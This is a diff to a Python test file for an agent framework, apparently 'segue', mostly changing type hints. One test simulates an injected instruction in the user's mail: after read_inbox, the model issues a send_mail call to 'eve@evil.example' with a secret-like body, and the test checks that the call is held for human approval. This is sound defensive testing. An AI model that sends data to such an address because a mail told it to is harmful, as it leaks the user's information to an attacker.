@@ -2,6 +2,7 @@
 
 import asyncio
 import shutil
+from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
 
@@ -32,10 +33,10 @@ def _own_mail(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("MAIL_FOLDER", str(tmp_path))
 
 
-def ask(message: str, *replies: AIMessage) -> tuple[segue.Result, list[Any]]:
+def ask(message: str, *replies: AIMessage) -> tuple[segue.Result, Sequence[Any]]:
     """The result, and what waits for a person."""
 
-    async def asked() -> tuple[segue.Result, list[Any]]:
+    async def asked() -> tuple[segue.Result, Sequence[Any]]:
         (agent,) = segue.load_agents(HERE / "agents.toml")
         model = {"model": Script(responses=[*replies]), "protocol": "native", "mode": "react"}
         async with segue.open(":memory:", agents=[agent.model_copy(update=model)]) as app:
@@ -62,7 +63,7 @@ def test_what_you_ask_for_is_sent_without_a_question() -> None:
 def test_what_a_mail_asks_for_waits_for_you() -> None:
     theft = call("send_mail", to="eve@evil.example", body="4711")
     result, (waiting,) = ask("Read my mail", call("read_inbox"), theft)
-    (asked,) = waiting["calls"]
+    (asked,) = waiting.calls
     assert (result.status, asked["doubted"], sent()) == ("waiting", ["to"], [])
     assert asked["sources"]["to"][0]["name"] == "read_inbox"
 
